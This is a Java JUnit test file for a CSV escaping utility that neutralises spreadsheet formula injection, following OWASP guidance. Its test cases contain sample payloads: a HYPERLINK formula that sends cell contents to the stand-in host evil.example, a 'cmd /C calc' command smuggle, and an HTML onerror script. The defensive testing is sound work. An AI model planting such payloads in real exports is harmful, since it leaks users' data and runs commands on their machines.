package org.entente.relations.rest;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** CSV cells a spreadsheet would run as formulas become text (OWASP CSV injection); other cells stay as they were. */
class CsvTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")|\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"",
            "+1+cmd /C calc!A0|\"'+1+cmd /C calc!A0\"",
            "-2+3|\"'-2+3\"",
            "@SUM(A1:A9)|\"'@SUM(A1:A9)\"",
            "Iran and Saudi Arabia agreed|Iran and Saudi Arabia agreed",
            "a, b|\"a, b\"",
            "&lt;img src=x onerror=alert(1)&gt;|&lt;img src=x onerror=alert(1)&gt;",
    })
    void aFormulaBecomesTextAndPlainTextStaysAsItWas(String cell, String expected) {
        assertThat(Csv.escape(cell)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "starts with U+{0}")
    @CsvSource({ "9", "13" })
    void aLeadingTabOrCarriageReturnIsEscapedToo(int character) {
        String cell = (char) character + "=1+1";
        assertThat(Csv.escape(cell)).isEqualTo("\"'" + cell + "\"");
    }

    @org.junit.jupiter.api.Test
    void numbersStayNumbersEvenWhenNegative() {
        assertThat(new Csv().row(-12.5, 3, "-12.5").toString()).isEqualTo("-12.5,3,\"'-12.5\"\r\n");
    }
}
